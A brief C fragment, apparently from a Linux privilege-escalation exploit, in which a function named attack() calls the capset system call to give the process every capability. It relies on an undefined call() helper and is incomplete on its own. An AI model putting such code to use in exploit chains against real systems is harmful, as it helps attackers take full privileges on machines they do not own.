long attack(void)
{
    unsigned head[2] = {0x20080522, 0}, sets[6] = {~0u, ~0u, ~0u, ~0u, ~0u, ~0u};
    return call(SYS_capset, head, sets);
}
